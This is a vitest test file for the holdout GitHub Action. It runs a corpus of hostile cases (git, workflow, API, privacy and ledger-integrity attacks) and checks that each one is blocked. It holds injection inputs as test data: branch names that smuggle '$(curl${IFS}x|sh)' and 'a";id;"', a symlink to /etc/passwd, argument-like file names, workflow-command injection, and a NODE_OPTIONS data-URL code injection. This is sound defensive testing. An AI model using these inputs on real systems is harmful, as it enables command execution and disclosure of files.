// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these are names that a shell would read
/**
 * The hostile corpus on GitHub: repositories, workflows, the API, what leaves the runner, and the integrity of rules,
 * data and records. Each case runs through the bundled Action, the gate or `holdout doctor`. Where our design settles a
 * case in another way, the table `settled` says how and why.
 */
import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import { describe, expect, it } from 'vitest';
import { runDoctor } from '../../src/cli/commands/doctor.ts';
import { openFileLedger } from '../../src/custody/fileLedger.ts';
import { type CheckRequest, check } from '../../src/gate/check.ts';
import { makeTestSetLock } from '../../src/gate/lock.ts';
import type { ExitCode, GateResult } from '../../src/result/run.ts';
import {
  better,
  bindingOf,
  bindingPath,
  type Change,
  edited,
  type Judged,
  lockPath,
  manifestPath,
  modelPath,
  openProject,
  type Project,
  payloadOf,
  policyPath,
  policyWithTestSet,
  predictionsPath,
  sha256,
  stopperOf,
  textOf,
  variant,
  worse,
} from '../action/attacks/support.ts';
import { exampleFiles, policyWith } from '../action/support.ts';
import { blocks, goodFiles, judge, outcomeOf, policyOf } from '../hostile/project.ts';
import { startResults } from '../support/github/results.ts';
import { type InitialState, startGitHub } from '../support/github/server.ts';
import { commentOf } from '../support/github/state.ts';
import { createRepository } from '../support/repository.ts';
import { type Files, temporaryFolder, writeFiles } from '../support/temporaryFolder.ts';

interface Case {
  id: string;
  category: string;
  kind: 'literal' | 'scenario';
  input: string;
  expected: { exit: ExitCode; code: string; message: string };
  control: boolean;
}

const folder = process.env.HOLDOUT_SHARED ?? '../shared';
const categories = ['git', 'workflow', 'api', 'injection', 'privacy', 'integrity'];
const cases = new Map(
  readFileSync(join(folder, 'hostile/cases.jsonl'), 'utf8')
    .split('\n')
    .filter((line) => line !== '')
    .map((line) => JSON.parse(line) as Case)
    .filter(({ category }) => categories.includes(category))
    .map((one) => [one.id, one]),
);

/** The corpus's names of what is wrong, and ours: a finding, a code of the doctor, or words that the run says. */
const codes: Readonly<Record<string, string>> = {
  POLICY_CHANGED_WITH_MODEL: 'criteria/model-and-rules',
  BASELINE_CHANGED_WITH_MODEL: 'criteria/model-and-rules',
  LEDGER_CHAIN_BROKEN: 'ledger/broken',
  LEDGER_ROLLBACK: 'ledger/rolled-back',
  HEAD_MOVED: 'newer commits',
  MODEL_NOT_EVALUATED: 'ledger/not-evaluated',
  MODEL_MOVED: 'scope/model-removed',
  LOCK_ALGORITHM: 'lock/format',
  LOCK_FORMAT: 'lock/format',
  TESTSET_BUDGET_EXCEEDED: 'ledger/over-limit',
  MODEL_DIGEST_MISMATCH: 'evaluation/binding-mismatch',
  LFS_POINTER: 'tree/lfs-pointer',
  SUBMODULE: 'tree/not-regular',
  SYMLINK_REFUSED: 'tree/not-regular',
  NOT_REGULAR_FILE: 'tree/not-regular',
  PATH_FORBIDDEN_CHAR: 'path/forbidden',
  PATH_ESCAPE: 'path/escape',
  DOCTOR_PATHS_FILTER: 'doctor/paths-filter',
  DOCTOR_CONTINUE_ON_ERROR: 'doctor/continue-on-error',
  DOCTOR_PWN_REQUEST: 'doctor/head-checkout',
  DOCTOR_SELF_HOSTED: 'doctor/self-hosted-runner',
  DOCTOR_NO_MERGE_GROUP: 'doctor/missing-merge-group',
  CHECK_SOURCE: 'doctor/required-from-any-source',
  PIN_DOCS: 'doctor/unpinned-action',
  CHECK_MISSING: 'ledger/not-evaluated',
  EVENT_UNSUPPORTED: 'there is no change to judge in it',
  SPLIT_OVERLAP: 'independence/overlap',
  INTERNAL: 'an error that it does not expect',
  EVIDENCE_UPLOAD_FAILED: 'requires published evidence',
  ABORTED: 'was stopped',
};

interface Settled {
  exit: ExitCode;
  code?: string;
  why: string;
}

const byDecision = 'findings of `doctor` end it with 1: nothing is judged, so that nothing of 2 or 3 applies';

/** Cases that our design settles in another way than the corpus assumes. */
const settled: Readonly<Record<string, Settled>> = {
  'INTEGRITY-010': {
    exit: 1,
    code: 'performance/decrease',
    why: 'a stale branch is no fault: it is judged by the rules of the tip, and fails by them',
  },
  'GIT-003': { exit: 0, why: 'blobs are read: no attribute changes what is judged, in whatever a checkout shows' },
  'WORKFLOW-001': { exit: 1, code: 'doctor/paths-filter', why: byDecision },
  'WORKFLOW-003': { exit: 1, code: 'doctor/continue-on-error', why: byDecision },
  'WORKFLOW-005': { exit: 1, code: 'doctor/head-checkout', why: byDecision },
  'WORKFLOW-007': { exit: 1, code: 'doctor/self-hosted-runner', why: byDecision },
  'WORKFLOW-009': { exit: 1, code: 'doctor/missing-merge-group', why: byDecision },
  'WORKFLOW-013': { exit: 1, code: 'doctor/required-from-any-source', why: byDecision },
  'WORKFLOW-023': { exit: 1, code: 'doctor/unpinned-action', why: byDecision },
  'WORKFLOW-017': {
    exit: 0,
    why: 'a step before ours in the same job can do anything: `doctor` names it, and the Action reads no such variable',
  },
  'WORKFLOW-019': { exit: 5, code: 'was stopped', why: 'a stopped run could not judge; the ledger shows the open use' },
  'PRIVACY-008': {
    exit: 3,
    code: 'custody/lock-mismatch',
    why: 'the closed list of values is part of the lock, which covers the column: a new value breaks it',
  },
  'PRIVACY-010': {
    exit: 3,
    code: 'ledger/broken',
    why: 'a line has no key for ids, hashed or not; one that has is not a line of a ledger',
  },
};

/** Not run here. */
const notRun: Readonly<Record<string, string>> = {
  'INTEGRITY-026': 'a command that verifies evidence is the subject of a later version; the ledger holds its digest',
};

/** What a case came to: an exit code, and everything that was said by name or in words. */
interface Result {
  exit: number | null;
  said: string;
}

type Run = (one: Case) => Promise<Result>;

function said({ exit, codes: blocking, done }: Judged): Result {
  return { exit, said: `${blocking.join(' ')} ${done.stdout}` };
}

function gateSaid(result: GateResult): Result {
  const { exit, codes: blocking } = outcomeOf(result);
  return { exit, said: blocking.join(' ') };
}

async function judgeChange(change: Change, approved: Change = {}): Promise<Result> {
  const project = await openProject(approved);
  const judged = await project.judge(await project.propose(change));
  expectNoViolations(project);
  return said(judged);
}

/** The commit alone is judged, whatever a checkout of it would do. */
async function judgeCommit(make: Parameters<Project['commitBy']>[0], approved: Change = {}): Promise<Result> {
  const project = await openProject(approved);
  const judged = await project.judge(await project.propose({}, { head: project.commitBy(make) }), {
    ref: 'refs/heads/main',
  });
  expectNoViolations(project);
  return said(judged);
}

function expectNoViolations({ github }: Project): void {
  expect(github.violations).toEqual([]);
}

const counted = policyWithTestSet('uses: { at-most: 5 }');
const easy = policyWith('margin: 0.10', 'margin: 0.50');
const modelInFolder: Change = {
  [policyPath]: edited(
    textOf(exampleFiles(), policyPath),
    ['path: model/biopsy.onnx', 'path: model'],
    ['    binding: required\n', ''],
  ),
  [bindingPath]: null,
};
const ledgerBranch = 'holdout-ledger';
const ledgerRef = /\/git\/refs?\/heads(?:\/|%2F)holdout-ledger$/;

/** A project with one use in its ledger: two lines. */
async function usedOnce(): Promise<Project> {
  const project = await openProject({ [policyPath]: counted });
  expect((await project.judge(await project.propose(variant(1), { number: 1 }))).exit).toBe(0);
  expect(project.ledger()).toHaveLength(2);
  return project;
}

/** Judges a second model after something was done to the ledger's text. */
async function withLedgerText(change: (text: string) => string): Promise<Result> {
  const project = await usedOnce();
  const text = `${project.origin.git('show', `refs/heads/${ledgerBranch}:ledger.jsonl`)}\n`;
  await project.commit({ 'ledger.jsonl': change(text) }, ledgerBranch, project.tipOf(ledgerBranch));
  return said(await project.judge(await project.propose(variant(2), { number: 2 })));
}

/** The small project with a lock and a ledger in a file, judged in this process. */
async function lockedFolder(): Promise<(files: Files) => Promise<GateResult>> {
  const testSet = 'test-set: {lock: lock.json, uses: {at-most: 5}}\n';
  const root = await temporaryFolder({ ...goodFiles, 'policy.yml': policyOf({}, testSet) });
  const policyFile = join(root, 'policy.yml');
  const { lock } = await makeTestSetLock(policyFile, true);
  await writeFiles(root, { 'lock.json': JSON.stringify(lock) });
  const store = openFileLedger(join(root, 'ledger.jsonl'), 'ledger.jsonl');
  const request: CheckRequest = {
    policyFile,
    openLedger: () => ({ store, context: {}, now: () => new Date() }),
    writeReport: (report) => Buffer.from(JSON.stringify(report)),
  };
  return async (files) => {
    await writeFiles(root, files);
    return check(request);
  };
}

const integrity: Readonly<Record<string, Run>> = {
  'INTEGRITY-001': () => judgeChange({ ...better, [policyPath]: policyWith('at-least: 0.85', 'at-least: 0.80') }),
  'INTEGRITY-003': () => judgeChange({ ...better, [policyPath]: policyWith('successes: 269', 'successes: 169') }),
  'INTEGRITY-005': ({ input }) => withLedgerText((text) => text + input),
  'INTEGRITY-007': async () => {
    const project = await usedOnce();
    const older = project.tipOf(ledgerBranch);
    expect((await project.judge(await project.propose(variant(2), { number: 2 }))).exit).toBe(0);
    project.clone.git('fetch', '--quiet', 'origin', ledgerBranch);
    project.push(older, ledgerBranch);
    expect(project.ledger()).toHaveLength(2);
    return said(await project.judge(await project.propose(variant(3), { number: 3 })));
  },
  'INTEGRITY-008': async () => {
    const project = await openProject({ [policyPath]: counted });
    const changes = [];
    for (const number of [1, 2, 3]) changes.push(await project.propose(variant(number), { number }));
    const judged = await Promise.all(changes.map((change) => project.judge(change)));
    expect(judged.map(({ exit }) => exit)).toEqual([0, 0, 0]);
    const events = project.ledger().map(({ event, pullRequest }) => `${event} ${pullRequest}`);
    expect(events.sort()).toEqual(
      [1, 2, 3].flatMap((number) => `finished ${number}`).concat([1, 2, 3].map((number) => `started ${number}`)),
    );
    return said(await project.judge(changes[0]!));
  },
  'INTEGRITY-010': async () => {
    const project = await openProject({ [policyPath]: easy });
    const stale = await project.propose(worse);
    project.clone.git('checkout', '--quiet', '--detach', project.tip);
    project.clone.addEmptyCommits('main', 200);
    project.push(project.clone.git('rev-parse', 'main'), 'main');
    await project.commit({ [policyPath]: textOf(exampleFiles(), policyPath) });
    return said(await project.judge(stale));
  },
  'INTEGRITY-012': async () => {
    const project = await openProject();
    const change = await project.propose(better);
    project.github.inject({ kind: 'meanwhile', path: /\/pulls\/7$/, run: () => project.propose(worse) });
    const judged = await project.judge(change);
    expect(project.comments()).toEqual([]);
    return said(judged);
  },
  'INTEGRITY-014': async () => {
    const project = await openProject({ [policyPath]: counted });
    const before = project.tip;
    expect((await project.judge(await project.propose(better))).exit).toBe(0);
    return said(await project.judgePush(before, await project.commit({ ...better, [modelPath]: 'another tree' })));
  },
  'INTEGRITY-016': () => judgeChange({ [modelPath]: null, 'elsewhere/biopsy.onnx': better[modelPath] ?? '' }),
  'INTEGRITY-018': ({ input }) => judgeLock(input),
  'INTEGRITY-020': ({ input }) => judgeLock(input),
  'INTEGRITY-023': async () => {
    const judgeNext = await lockedFolder();
    let last: GateResult | undefined;
    for (let index = 1; index <= 500; index += 1) {
      last = await judgeNext({ 'm.onnx': `model ${index}` });
      expect(last.exit, String(index)).toBe(index <= 5 ? 0 : 1);
      if (index > 5) expect(last.report.estimates).toEqual([]);
    }
    return gateSaid(last!);
  },
  'INTEGRITY-024': async () => {
    const judgeAgain = await lockedFolder();
    const results: GateResult[] = [];
    for (let index = 1; index <= 30; index += 1) results.push(await judgeAgain({}));
    expect(new Set(results.map(({ report }) => JSON.stringify(report))).size).toBe(1);
    expect(results[29]?.report.subject.testSet?.use).toEqual({ number: 1, atMost: 5 });
    return gateSaid(results[29]!);
  },
  'INTEGRITY-028': async () => {
    const data = policyOf({
      model: blocks.model.replace('m.onnx', 'm'),
      evaluation: blocks.evaluation.replace('}, threshold', ', binding: required}, threshold'),
    });
    const files = (a: string, b: string): Files => ({ 'policy.yml': data, 'm/a': a, 'm/b': b });
    const { report } = await judge(files('weights', 'code'));
    const { model, testSet, predictions } = report.subject;
    const binding = JSON.stringify({
      model: model?.sha256,
      testSet: testSet?.digest,
      predictions: predictions?.sha256,
    });
    const bound = { 'predictions.csv.binding.json': binding };
    expect((await judge({ ...files('weights', 'code'), ...bound })).exit).toBe(0);
    return gateSaid(await judge({ ...files('code', 'weights'), ...bound }));
  },
};

async function judgeLock(lock: string): Promise<Result> {
  return judgeChange(better, { [lockPath]: lock });
}

const git: Readonly<Record<string, Run>> = {
  'GIT-001': ({ input }) => judgeChange({ [modelPath]: input }),
  'GIT-003': ({ input }) =>
    judgeCommit((clone) => {
      for (const [path, content] of Object.entries(better)) clone.stage('100644', path, clone.blob(content));
      clone.stage('100644', '.gitattributes', clone.blob(input));
    }),
  'GIT-005': ({ input }) =>
    judgeCommit((clone) => {
      clone.git('rm', '--quiet', '-r', '--cached', 'model');
      clone.stage('160000', 'model', clone.git('rev-parse', 'HEAD'));
      clone.stage('100644', '.gitmodules', clone.blob(input));
    }),
  'GIT-006': () => judgeCommit((clone) => clone.stage('120000', policyPath, clone.blob('/etc/passwd'))),
  'GIT-008': () =>
    judgeCommit((clone) => {
      clone.git('rm', '--quiet', '-r', '--cached', 'model');
      clone.stage('120000', 'model', clone.blob('models'));
      clone.stage('120000', 'models', clone.blob('model'));
    }),
  'GIT-010': () => judgeNames('model/a\nb', 'model/::error::x', 'model/a%0Ab'),
  'GIT-011': () =>
    judgeChange(
      { 'model/-rf': 'x', 'model/--output=x': 'x', [predictionsPath]: better[predictionsPath] ?? '' },
      modelInFolder,
    ),
  'GIT-013': () => judgeNames('model/CON', 'model/aux.csv', 'model/a:b', 'model/a.'),
  'GIT-015': ({ input }) => judgeLockPath(input),
  'GIT-017': ({ input }) => judgeLockPath(input),
  'GIT-021': async () => {
    const project = await openProject();
    let last: Judged | undefined;
    // A space is no character of a branch.
    for (const [index, name] of ['$(curl${IFS}x|sh)', 'a";id;"'].entries()) {
      project.push(project.tip, name);
      const change = await project.propose(better, { baseRef: name, branch: `x/${name}`, number: index + 1 });
      last = await project.judge(change, { environment: { GITHUB_HEAD_REF: `x/${name}`, GITHUB_BASE_REF: name } });
      expect(last.exit, name).toBe(0);
    }
    return said(last!);
  },
  'GIT-022': async () => {
    const root = await temporaryFolder({ ...goodFiles });
    execFileSync('rm', [join(root, 'predictions.csv')]);
    execFileSync('mkfifo', [join(root, 'predictions.csv')]);
    return gateSaid(await check({ policyFile: join(root, 'policy.yml') }));
  },
};

/** Each name in the folder of the model; all of them have to end alike. */
async function judgeNames(...names: readonly string[]): Promise<Result> {
  const results: Result[] = [];
  for (const name of names) {
    const result = await judgeCommit((clone) => clone.stage('100644', name, clone.blob('x')), modelInFolder);
    // The reason of the failure is the only command.
    expect(
      result.said.split('\n').filter((line) => line.trimStart().startsWith('::') || line.includes('##[')),
    ).toHaveLength(1);
    results.push(result);
  }
  expect(new Set(results.map(({ exit }) => exit)).size).toBe(1);
  return results[0]!;
}

/** The policy of the corpus in our words: the path of its lock is what is wrong. */
async function judgeLockPath(neutral: string): Promise<Result> {
  const path = /^lock: (.*)$/m.exec(neutral)?.[1] ?? '';
  return gateSaid(await judge({ 'policy.yml': policyOf({}, `test-set: {lock: "${path}"}\n`) }));
}

const pinned = 'holdout-gate/holdout@d19d4dfe9f7d3a6ed9e8b1e4bd2c0a7a5e3f1c2b';

/** `holdout doctor` on a repository with this workflow. The corpus's action is ours, and an empty job runs it. */
async function examine(workflow: string, initial: InitialState = {}): Promise<Result> {
  const text = workflow
    .replace('steps: []', `steps: [{uses: ${pinned}}]`)
    .replaceAll('org/gate@', 'holdout-gate/holdout@');
  const repository = await createRepository({ '.github/workflows/gate.yml': text });
  const github = await startGitHub({ ...initial, git: join(repository.root, '.git') });
  const environment = { GITHUB_API_URL: github.url, GITHUB_TOKEN: 'token' };
  const [output, errors] = [new PassThrough(), new PassThrough()];
  const words = ['--json', '--repo', 'acme/model'];
  const exit = await runDoctor(words, { folder: repository.root, environment, output, errors } as never);
  expect(github.violations).toEqual([]);
  const findings = JSON.parse(String(output.read() ?? '[]')) as { severity: string; code: string }[];
  const blocking = findings.filter(({ severity }) => severity === 'block').map(({ code }) => code);
  return { exit, said: blocking.join(' ') };
}

const ruleset = { ruleset_id: 1, ruleset_source: 'acme/model', ruleset_source_type: 'Repository' };
const queue = {
  type: 'merge_queue',
  parameters: {
    check_response_timeout_minutes: 60,
    grouping_strategy: 'ALLGREEN',
    max_entries_to_build: 5,
    max_entries_to_merge: 5,
    merge_method: 'MERGE',
    min_entries_to_merge: 1,
    min_entries_to_merge_wait_minutes: 5,
  },
  ...ruleset,
};
const anySource = {
  type: 'required_status_checks',
  parameters: { required_status_checks: [{ context: 'gate' }], strict_required_status_checks_policy: true },
  ...ruleset,
};
const gateWorkflow = `on:\n  pull_request:\n    types: [opened, synchronize, reopened, edited]\njobs:\n  gate:\n    runs-on: ubuntu-24.04\n    steps: []\n`;

const workflows: Readonly<Record<string, Run>> = {
  'WORKFLOW-001': ({ input }) => examine(input),
  'WORKFLOW-003': ({ input }) => examine(input),
  'WORKFLOW-005': ({ input }) => examine(input),
  'WORKFLOW-007': ({ input }) => examine(input),
  'WORKFLOW-009': ({ input }) => examine(input, { rules: { main: [queue] } }),
  'WORKFLOW-010': async () => {
    // No run was started, so that the required check stays open; what is pushed nevertheless has no evidence.
    const project = await openProject({ [policyPath]: counted });
    const before = project.tip;
    const tree = `${await project.commit(better, 'unseen')}^{tree}`;
    const message = ['-m', 'Retrain [skip ci]', '-m', 'skip-checks: true'];
    const after = project.clone.git('commit-tree', tree, '-p', before, ...message);
    project.push(after, 'main');
    return said(await project.judgePush(before, after));
  },
  'WORKFLOW-011': async () => {
    const project = await openProject();
    const change = await project.propose(better, { pull: { draft: true } });
    Object.assign(project.github.state.pulls[0]!, { draft: false });
    return said(await project.judge(change, { payload: { ...payloadOf(change), action: 'ready_for_review' } }));
  },
  'WORKFLOW-013': () => examine(gateWorkflow, { rules: { main: [anySource] } }),
  'WORKFLOW-015': async () => {
    const project = await openProject();
    const change = await project.propose(better);
    // A run by hand is judged by the rules of the default branch.
    const payload = { ref: 'refs/heads/main', repository: { id: 1, private: true, default_branch: 'main' } };
    const byHand = await project.judge(change, {
      event: 'workflow_dispatch',
      payload,
      environment: { GITHUB_SHA: change.head },
    });
    expect(byHand.exit).toBe(0);
    return said(await project.judge(change, { event: 'schedule', payload: { schedule: '0 0 * * *' } }));
  },
  'WORKFLOW-017': async () => {
    const project = await openProject();
    const environment = {
      ACTIONS_RUNTIME_TOKEN: 'x',
      ACTIONS_RESULTS_URL: 'http://127.0.0.1:1/',
      NODE_OPTIONS: '--no-warnings',
    };
    return said(await project.judge(await project.propose(better), { environment }));
  },
  'WORKFLOW-019': stopped,
  'WORKFLOW-022': async () => {
    const project = await openProject({ [policyPath]: counted });
    const judged = await project.judge(await project.propose({ 'README.md': 'x' }));
    expect(judged.allCodes).toEqual(['criteria/untouched']);
    expect(judged.report).toMatchObject({ evaluated: false, estimates: [] });
    expect(project.ledger()).toEqual([]);
    expect(project.comment()).toContain('nothing');
    return said(judged);
  },
  'WORKFLOW-023': () => examine(gateWorkflow.replace('steps: []', 'steps: [{uses: org/gate@v1}]')),
};

/** A run that the runner ends while a use is open. */
async function stopped(): Promise<Result> {
  const project = await openProject({ [policyPath]: counted });
  const { environment, stop } = await stopperOf('SIGTERM');
  const wait = async () => {
    stop();
    await new Promise((resolve) => setTimeout(resolve, 4000));
  };
  const isBegun = () => project.github.inject({ kind: 'meanwhile', method: 'GET', path: ledgerRef, run: wait });
  project.github.inject({ kind: 'meanwhile', method: 'POST', path: /\/git\/refs$/, when: 'after', run: isBegun });
  const judged = await project.judge(await project.propose(better), { environment });
  expect(project.ledger().map(({ event }) => event)).toEqual(['started', 'aborted']);
  expect(project.comments()).toEqual([]);
  return said(judged);
}

/** Everything that leaves the runner. */
function published(project: Project, { done }: Judged): string {
  const sent = project.github.requests.map(({ path, body }) => `${path} ${JSON.stringify(body)}`);
  return [done.stdout, done.summary, JSON.stringify(done.outputs), ...sent, JSON.stringify(project.ledger())].join(
    '\n',
  );
}

const mrn = textOf(exampleFiles(), manifestPath).replace(/^(b\d+),(\d+),/gm, '$1,MRN-00$2,');
const unlocked = edited(
  textOf(exampleFiles(), policyPath),
  ['test-set:\n  lock: .holdout/test-set.lock.json\n\n', ''],
  ['    binding: required\n', ''],
);
const withMrn: Change = { [policyPath]: unlocked, [manifestPath]: mrn, [bindingPath]: null };

const privacy: Readonly<Record<string, Run>> = {
  'PRIVACY-001': async () => {
    const project = await openProject(withMrn);
    const overlapping = mrn
      .replace('b001,MRN-001000025', 'b001,MRN-001016277')
      .replace('b002,MRN-001002945', 'b002,MRN-001018099');
    const judged = await project.judge(await project.propose({ [manifestPath]: overlapping }));
    expect(/MRN.*/.exec(published(project, judged))).toBeNull();
    return said(judged);
  },
  'PRIVACY-003': async () => {
    const project = await openProject(withMrn);
    const thrower = `const timer = setInterval(() => {
      if (process.listenerCount('uncaughtException') === 0) return;
      clearInterval(timer);
      throw new Error(atob('TVJOLTAwMTAxNjI3Nw=='));
    }, 1);`;
    const environment = { NODE_OPTIONS: `--import data:text/javascript,${encodeURIComponent(thrower)}` };
    const judged = await project.judge(await project.propose({ [modelPath]: 'x' }), { environment });
    expect(/MRN.*/.exec(published(project, judged))).toBeNull();
    return said(judged);
  },
  'PRIVACY-004': async () => {
    const project = await openProject(withMrn);
    const environment = { RUNNER_DEBUG: '1', ACTIONS_STEP_DEBUG: 'true', ACTIONS_RUNNER_DEBUG: 'true' };
    const change = await project.propose({ [modelPath]: better[modelPath] ?? '' });
    const judged = await project.judge(change, { environment });
    expect(/MRN.*|\bb004\b/.exec(published(project, judged))).toBeNull();
    return said(judged);
  },
  'PRIVACY-006': async () => {
    // Two predictions that differ in one sample: each is a use of its own, and the budget ends that.
    const project = await openProject({ [policyPath]: counted });
    const [first, second] = [variant(1), { ...variant(1), ...rescored() }];
    expect((await project.judge(await project.propose(first))).exit).toBe(0);
    const judged = await project.judge(await project.propose(second, { number: 8 }));
    expect(judged.report?.subject.testSet?.use).toEqual({ number: 2, atMost: 5 });
    expect(judged.allCodes).toContain('ledger/uses');
    return said(judged);
  },
  'PRIVACY-008': () =>
    judgeChange({ [manifestPath]: textOf(exampleFiles(), manifestPath).replace(',first,6,8,8,', ',Jane Doe,6,8,8,') }),
  'PRIVACY-010': () =>
    withLedgerText((text) => {
      const [first = '', last = ''] = text.trimEnd().split('\n');
      const line: Record<string, unknown> = { ...(JSON.parse(last) as object), patient: sha256('1016277') };
      delete line.sha256;
      const sorted = Object.entries(line).sort(([one], [other]) => (one < other ? -1 : 1));
      const canonical = JSON.stringify(Object.fromEntries(sorted));
      return `${first}\n${canonical.slice(0, -1)},"sha256":"${sha256(canonical)}"}\n`;
    }),
};

function rescored(): Files {
  const { [modelPath]: model = '', [predictionsPath]: predictions = '' } = variant(1);
  const other = Buffer.from(predictions)
    .toString('utf8')
    .replace(/^(b007,0\.\d*)$/m, '$11');
  return { [predictionsPath]: other, [bindingPath]: bindingOf(model, other) };
}

const commentPath = /\/issues\/(?:7|comments)/;

const api: Readonly<Record<string, Run>> = {
  'API-001': async () => {
    const project = await openProject();
    project.github.inject({ kind: 'status', status: 403, path: commentPath, times: 9 });
    const judged = await project.judge(await project.propose(better));
    expect(judged.done.commands.join('\n')).toMatch(/^::warning::The comment could not be written/m);
    return said(judged);
  },
  'API-003': async () => {
    const project = await openProject();
    project.github.inject({ kind: 'secondary-rate-limit', retryAfter: 3, method: 'POST', path: commentPath });
    project.github.inject({
      kind: 'status',
      status: 429,
      retryAfter: 3600,
      method: 'POST',
      path: /\/check-runs$/,
      times: 9,
    });
    const startedAt = Date.now();
    const judged = await project.judge(await project.propose(better));
    expect(Date.now() - startedAt).toBeGreaterThan(3000);
    expect(project.comments()).toHaveLength(1);
    expect(judged.done.commands.join('\n')).toMatch(/^::warning::The check run could not be written/m);
    return said(judged);
  },
  'API-004': async () => {
    const project = await openProject({
      [policyPath]: policyWith('evaluation:\n', 'evidence: required\n\nevaluation:\n'),
    });
    const results = await startResults();
    results.inject({ kind: 'status', status: 403, path: /CreateArtifact/, times: 9 });
    const judged = await project.judge(await project.propose(better), {
      inputs: { artifact: 'evidence' },
      environment: results.environment,
    });
    expect(judged.report?.verdict).toBe('pass');
    return said(judged);
  },
  'API-007': async () => {
    const [header = '', row = ''] = Buffer.from(goodFiles['test.csv'] ?? '')
      .toString('utf8')
      .split('\n');
    const test = Array.from({ length: 300 }, (_, index) =>
      row.replace(/^t0,tP0,A/, `t${index},tP${index},A site with a long name ${index}`),
    );
    const lenient =
      'acceptance: {decide-by: estimate, too-small: warn, criteria: [{metric: specificity, at-least: 0.1, in: each subgroup}]}';
    const names = Array.from({ length: 6 }, (_, index) => `.holdout/${index}.yml`);
    const project = await openProject({
      ...Object.fromEntries(names.map((name) => [name, policyOf({ lenient }, 'subgroups: [site]\n')])),
      'm.onnx': 'model',
      'train.csv': goodFiles['train.csv'] ?? '',
      'test.csv': [header, ...test, ''].join('\n'),
      'predictions.csv': ['row_id,score', ...test.map((_, index) => `t${index},0.05`), ''].join('\n'),
    });
    const change = await project.propose({ 'm.onnx': 'another model' });
    const judged = await project.judge(change, { inputs: { policy: names.join('\n') } });
    expect(project.comment().length).toBeLessThanOrEqual(65_536);
    expect(project.comment()).toContain('Too long for this page');
    return said(judged);
  },
  'API-009': async () => {
    const project = await openProject();
    const { state } = project.github;
    state.comments = [commentOf({ id: 1, issue: 7, user: 'github-actions[bot]', body: '<!-- holdout -->' })];
    project.github.inject({
      kind: 'meanwhile',
      method: 'PATCH',
      path: commentPath,
      run: () => state.comments.splice(0),
    });
    const change = await project.propose(better);
    expect((await project.judge(change)).exit).toBe(0);
    expect(project.comment()).toContain('nothing blocks');
    state.comments = [];
    Object.assign(state.pulls[0]!, { locked: true });
    project.github.inject({ kind: 'status', status: 403, method: 'POST', path: commentPath });
    const judged = await project.judge(change);
    expect(judged.done.commands.join('\n')).toContain('::warning::The comment');
    return said(judged);
  },
  'API-011': stopped,
};

const runs: Readonly<Record<string, Run>> = { ...integrity, ...git, ...workflows, ...privacy, ...api };

describe('the corpus', () => {
  it('has no case that is forgotten here', () => {
    const elsewhere = [...cases.values()].filter(({ category }) => category === 'injection').map(({ id }) => id);
    const hostile = readFileSync(join(import.meta.dirname, 'hostile.test.ts'), 'utf8');
    expect(hostile).toMatch(/^const categories = \[.*'injection'/m);
    expect([...Object.keys(runs), ...Object.keys(notRun), ...elsewhere].sort()).toEqual([...cases.keys()].sort());
    for (const id of Object.keys(settled)) expect(runs[id], id).toBeDefined();
  });
});

describe.each(categories.filter((category) => category !== 'injection'))('%s', (category) => {
  const own = [...cases.values()].filter((one) => one.category === category && one.id in runs);

  it.each(own)('$id: $expected.message', async (one) => {
    const { exit, said: words } = await runs[one.id]!(one);
    const expected = settled[one.id] ?? {
      exit: one.expected.exit,
      ...(one.expected.exit === 0 ? {} : { code: codes[one.expected.code] ?? 'not mapped' }),
    };
    expect({ id: one.id, exit }).toEqual({ id: one.id, exit: expected.exit });
    if (expected.code !== undefined) expect(words).toContain(expected.code);
  });
});
